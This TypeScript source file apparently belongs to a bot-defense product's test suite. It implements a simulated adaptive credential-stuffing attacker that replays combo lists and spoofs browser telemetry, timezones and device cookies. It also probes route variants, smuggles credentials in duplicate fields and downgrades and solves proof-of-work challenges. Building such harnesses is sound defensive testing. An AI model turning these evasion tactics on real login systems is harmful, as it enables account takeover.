// The adaptive credential-stuffing attacker of issue 12, over any transport (a Wire): takes a plan
// (tactics, addresses, combo list, the browser recording, a native PoW solver), makes each login
// attempt as someone who read every line we ship would, and returns what each attempt met.
// No clock, no sockets: the simulator (Node) and the workerd tests each bring their own Wire.
import type { Tactics } from './adaptiveTactics'
import {
  caseDuplicateBody, challengeLink, CLEARANCE_COOKIE, CookieJar, DEVICE_COOKIE, formBody, multipartBody, parseSolvePage, scrapeSdkNonce,
  withDifficulty, type HeaderList, type LoginBody, type Wire, type WireResponse,
} from './adaptiveWire'

/** What test/fixtures/adaptive/chromium-telemetry.json holds: one real Chromium, recorded once. */
export interface BrowserRecording {
  readonly userAgent: string
  readonly navigationHeaders: Readonly<Record<string, string>>
  readonly formPostHeaders: Readonly<Record<string, string>>
  readonly collectHeaders: Readonly<Record<string, string>>
  readonly telemetry: { readonly load: Record<string, unknown>; readonly submit: Record<string, unknown> }
}

export interface Combo {
  readonly username: string
  readonly password: string
}

export interface AttackPlan {
  readonly tactics: Tactics
  readonly attempts: number
  /** `single`: one client keeps its jar (and clearance) across attempts; `spread`: each attempt a new bot. */
  readonly shape: 'single' | 'spread'
  /** The source address of attempt i (0-based). */
  addressFor(i: number): string
  /** The timezone that matches an address (the recorded telemetry is edited to it). */
  timezoneFor(ip: string): string
  readonly combos: readonly Combo[]
  /** The username key made slow (tactic slow_user with hidden: the decoy field). */
  readonly slowDecoy: string
  readonly browser: BrowserRecording
  /** Absolute base of the site, for Referer and Origin (`http://127.0.0.1:8787`). */
  readonly base: string
  /** Native SHA-256 search: the first counter with `bits` leading zero bits, or null. */
  solve(challengeId: string, bits: number): Promise<string | null>
  /** Between attempts (think time in the simulator; nothing in workerd). */
  pause?(i: number): Promise<void>
  /** True when the run must stop (the simulator's deadline). */
  over?(): boolean
  /** Route variants found served as a login, shared by a campaign's bots (probed once). */
  readonly shared?: { routes?: Promise<string[]> }
}

export type Action = 'allow' | 'challenge' | 'block' | 'rate_limit' | 'error'

export interface AttemptRecord {
  readonly index: number
  readonly ip: string
  readonly path: string
  readonly shape: LoginBody['shape']
  /** What the first login POST of the attempt met. */
  readonly first: Action
  /** Some login POST of the attempt reached the origin (allowed). */
  readonly letThrough: boolean
  /** Login POSTs sent for this attempt (1 + retries after a solved challenge). */
  readonly posts: number
  readonly originStatus: number | null
  /** Difficulties solved for this attempt. */
  readonly solved: readonly number[]
  /** What each challenge try met: `page:<status>`, `d<bits>:verify:<status>`. */
  readonly notes: readonly string[]
}

const LOGIN = '/login'
const ROUTE_VARIANTS = ['/login/', '/Login', '/login.json'] as const
const LOWEST_BITS = 12

const actionOf = (r: WireResponse): Action => (r.status === 0 ? 'error' : ((r.header('edgeward-mitigated') as Action | null) ?? 'allow'))
const list = (h: Readonly<Record<string, string>>, extra: Record<string, string | null>): HeaderList => {
  const out = Object.entries(h).filter(([k]) => !(k in extra)) as Array<[string, string]>
  for (const [k, v] of Object.entries(extra)) if (v !== null) out.push([k, v])
  return out
}

export async function runAdaptiveAttack(wire: Wire, plan: AttackPlan): Promise<AttemptRecord[]> {
  const t = plan.tactics
  const b = plan.browser
  const records: AttemptRecord[] = []
  let jar = new CookieJar()
  let pageHasNonce: boolean | null = null

  const get = (ip: string, path: string, referer: string | null, dest: 'document' | 'style' | 'image' = 'document') => {
    const nav = dest === 'document'
    const headers = nav
      ? list(b.navigationHeaders, { 'sec-fetch-site': referer === null ? 'none' : 'same-origin', referer: referer === null ? null : plan.base + referer, cookie: jar.header() })
      : list(b.navigationHeaders, { accept: dest === 'style' ? 'text/css,*/*;q=0.1' : 'image/avif,image/webp,image/apng,*/*;q=0.8', 'sec-fetch-dest': dest, 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin', 'sec-fetch-user': null, 'upgrade-insecure-requests': null, referer: plan.base + (referer ?? '/'), cookie: jar.header() })
    return wire({ method: 'GET', path, headers, body: null, ip }).then((r) => (jar.take(r.setCookies), r))
  }
  const page = async (ip: string, path: string, referer: string | null, first: boolean): Promise<WireResponse> => {
    const doc = await get(ip, path, referer)
    if (first && doc.status === 200) {
      await get(ip, '/static/app.css', path, 'style')
      await get(ip, '/favicon.ico', path, 'image')
    }
    return doc
  }
  const routes = async (ip: string): Promise<string[]> => {
    if (!t.has('routes')) return [LOGIN]
    const shared = plan.shared ?? {}
    shared.routes ??= (async () => {
      const served: string[] = []
      for (const v of ROUTE_VARIANTS) {
        const r = await get(ip, v, null)
        if (r.status === 200 && /name="password"/.test(r.text)) served.push(v)
      }
      return served.length === 0 ? [LOGIN] : served
    })()
    return shared.routes
  }

  /** A fresh device cookie carrying the recorded telemetry (both phases, as the SDK posts them). */
  const rotate = async (ip: string, loginPath: string, html: string | null): Promise<void> => {
    jar.drop(DEVICE_COOKIE)
    let pageHtml = html
    if (pageHtml === null && pageHasNonce !== false) pageHtml = (await get(ip, loginPath, null)).text
    const nonce = pageHtml === null ? null : scrapeSdkNonce(pageHtml)
    if (pageHasNonce === null) pageHasNonce = nonce !== null
    for (const phase of ['load', 'submit'] as const) {
      const telemetry = { ...b.telemetry[phase], timezone: plan.timezoneFor(ip), ...(nonce === null ? {} : { nonce }) }
      const headers = list(b.collectHeaders, { origin: plan.base, referer: plan.base + loginPath, cookie: jar.header([CLEARANCE_COOKIE]) })
      jar.take((await wire({ method: 'POST', path: '/__edgeward/collect', headers, body: JSON.stringify(telemetry), ip })).setCookies)
    }
  }

  const post = (ip: string, path: string, body: LoginBody) =>
    wire({ method: 'POST', path, headers: list(b.formPostHeaders, { 'content-type': body.contentType, origin: plan.base, referer: plan.base + path, cookie: jar.header() }), body: body.body, ip })

  /** Solves the challenge a refused POST points to, lowering the difficulty first; true when cleared. */
  const clear = async (ip: string, link: string, bits: number | null, solved: number[], notes: string[]): Promise<boolean> => {
    // No cookies at all: the clearance then carries no device and holds for every rotated one.
    const pageRes = await wire({ method: 'GET', path: bits === null ? link : withDifficulty(link, bits), headers: list(b.navigationHeaders, { 'sec-fetch-site': 'same-origin', referer: plan.base + LOGIN }), body: null, ip })
    const form = parseSolvePage(pageRes.text)
    if (form === null) return (notes.push(`page:${pageRes.status}`), false)
    const solution = await plan.solve(form.challengeId, form.difficulty)
    if (solution === null) return false
    solved.push(form.difficulty)
    const body = new URLSearchParams({ challenge: form.token, solution }).toString()
    const headers = list(b.formPostHeaders, { 'content-type': 'application/x-www-form-urlencoded', origin: plan.base, referer: plan.base + link })
    const verify = await wire({ method: 'POST', path: form.action, headers, body, ip })
    jar.take(verify.setCookies)
    notes.push(`d${form.difficulty}:verify:${verify.status}`)
    return verify.status === 303 && jar.get(CLEARANCE_COOKIE) !== undefined
  }

  for (let i = 0; i < plan.attempts; i++) {
    if (plan.over?.()) break
    const ip = plan.addressFor(i)
    if (plan.shape === 'spread') {
      jar = new CookieJar()
      pageHasNonce = null
    }
    const variants = await routes(ip)
    const path = variants[i % variants.length]!
    const combo = plan.combos[i % plan.combos.length]!
    let html: string | null = null
    if (t.has('browse')) {
      await page(ip, '/', null, i === 0 || plan.shape === 'spread')
      html = (await page(ip, path, '/', false)).text
    }
    if (t.has('rotate')) await rotate(ip, path, html)
    const body = !t.has('hidden')
      ? formBody(combo.username, combo.password)
      : t.has('slow_user') || i % 2 === 1
        ? caseDuplicateBody(t.has('slow_user') ? plan.slowDecoy : `${combo.username.split('@')[0]}.x${i}@example.org`, combo.username, combo.password)
        : multipartBody(combo.username, combo.password, `${ip}-${i}`)
    let res = await post(ip, path, body)
    const first = actionOf(res)
    let posts = 1
    const solved: number[] = []
    const notes: string[] = []
    if (first === 'challenge' && t.has('pow')) {
      const link = challengeLink(res.text)
      for (const bits of link === null ? [] : [LOWEST_BITS, null]) {
        if (!(await clear(ip, link!, bits, solved, notes))) continue
        res = await post(ip, path, body)
        posts++
        if (actionOf(res) !== 'challenge') break
      }
    }
    const letThrough = actionOf(res) === 'allow'
    records.push({ index: i, ip, path, shape: body.shape, first, letThrough, posts, originStatus: letThrough ? res.status : null, solved, notes })
    await plan.pause?.(i)
  }
  return records
}
